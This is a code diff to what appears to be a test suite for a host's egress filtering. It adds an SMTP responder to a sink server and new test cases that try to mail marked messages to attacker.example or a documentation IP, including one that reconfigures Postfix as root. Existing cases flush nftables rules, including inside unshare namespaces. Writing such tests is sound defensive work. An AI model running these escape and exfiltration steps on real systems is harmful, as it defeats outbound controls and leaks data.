@@ -43,13 +43,19 @@ while True:
         one, kind = key.fileobj, key.data
         try:
             if kind == "tcp":
-                take(one.accept()[0], "connection")
+                connection = one.accept()[0]
+                smtp = connection.getsockname()[1] == 25
+                if smtp: # else who speaks it says nothing
+                    connection.sendall(b"220 outside\\r\\n")
+                take(connection, "smtp" if smtp else "connection")
                 continue
             said, who = one.recvfrom(65536)
             print(repr(said), flush=True)
-            if kind == "connection" and said:
+            if kind == "smtp" and said:
+                one.sendall(b"250 ok\\r\\n")
+            elif kind == "connection" and said:
                 one.sendall(b"HTTP/1.0 200 OK\\r\\nContent-Length: 0\\r\\n\\r\\n")
-            elif kind == "connection":
+            elif kind in ("connection", "smtp"):
                 raise ConnectionError
             elif kind == "dns": # every name is here
                 question = said[12:said.index(0, 12) + 5]
@@ -58,13 +64,13 @@ while True:
                 counts = b"\\0\\1\\0" + bytes([bool(answer)]) + b"\\0\\0\\0\\0"
                 one.sendto(said[:2] + b"\\x81\\x80" + counts + question + answer, who)
         except OSError:
-            if kind == "connection":
+            if kind in ("connection", "smtp"):
                 chosen.unregister(one)
                 one.close()
 """.replace("THERE", THERE)
 
 TRY = """
-import os, pathlib, pwd, re, socket, struct, subprocess, sys, time
+import os, pathlib, pwd, re, smtplib, socket, struct, subprocess, sys, time
 THERE, THERE_6, METADATA, PROXY = "198.51.100.1", "2001:db8:77::1", "169.254.169.254", ("127.0.0.1", 3128)
 USER, MARK, OPEN, WAYS = ASKED
 SQUID, UNBOUND, ZONE = map(pathlib.Path, ("/etc/squid/squid.conf", "/etc/unbound/unbound.conf", "/etc/unbound/listed.zone"))
@@ -130,6 +136,32 @@ def flushed(user, mark, address, port):
     for before in ([], ["unshare", "--user", "--map-root-user"], ["unshare", "--user", "--map-root-user", "--net"]):
         subprocess.run([*before, "nft", "flush", "ruleset"], stderr=subprocess.DEVNULL)
     tcp(user, mark, address, port)
+
+def mail(user, mark, to, submitted): # until it was delivered, or was tried in vain
+    sender, text = f"{mark.decode()}@example.com", b"Subject: " + mark + b"\\n\\n" + mark
+    if submitted:
+        subprocess.run(["/usr/sbin/sendmail", "-f", sender, to], input=text, check=True)
+    else:
+        with smtplib.SMTP("127.0.0.1", 25, timeout=10) as one:
+            one.sendmail(sender, [to], text)
+    for _ in range(80):
+        time.sleep(0.1)
+        queue = subprocess.run(["/usr/sbin/postqueue", "-j"], capture_output=True, text=True).stdout
+        if to not in queue or '"queue_name": "deferred"' in queue:
+            break
+
+def mail_by_hand(user, mark, to): # root lets Postfix connect elsewhere, as Debian's does
+    kept = {each: each.read_bytes() for each in (pathlib.Path("/etc/postfix/main.cf"), pathlib.Path("/etc/postfix/master.cf"))}
+    try:
+        subprocess.run(["postconf", "-e", "default_transport=smtp"], check=True)
+        subprocess.run(["postconf", "-M", "smtp/unix=smtp unix - - n - - smtp"], check=True)
+        subprocess.run(["systemctl", "restart", "postfix"], check=True)
+        mail(user, mark, to, True)
+    finally:
+        for path, content in kept.items():
+            path.write_bytes(content)
+        subprocess.run(["postsuper", "-d", "ALL"], stderr=subprocess.DEVNULL, check=True)
+        subprocess.run(["systemctl", "restart", "postfix"], check=True)
 
 def tried(name, user, kind, *rest):
     mark = f"{name}-{MARK}".encode()
@@ -215,7 +247,14 @@ WAYS: tuple[WayOut, ...] = (
     ("php-curl", "application", "php", f"http://{THERE}", False),
     ("php-curl-proxy", "application", "php", "http://attacker.example", True),
     ("flush", "application", "flushed", THERE, 443),
+    ("mail-by-hand", "root", "mail_by_hand", f"kim@[{THERE}]"),
 )
+MAILS: tuple[WayOut, ...] = (
+    ("mail-address", "application", "mail", f"kim@[{THERE}]", True),
+    ("mail-name", "root", "mail", "kim@attacker.example", True),
+    ("mail-smtp", "application", "mail", f"kim@[{THERE}]", False),
+)
+"""Mails to elsewhere, which stay on the host whatever its rules."""
 LATE: tuple[WayOut, ...] = (("cron", "application", "cron", THERE, 443),)
 """Those that take a minute."""
 LISTED: WayOut = ("listed", "application", "proxied", "MIRROR")
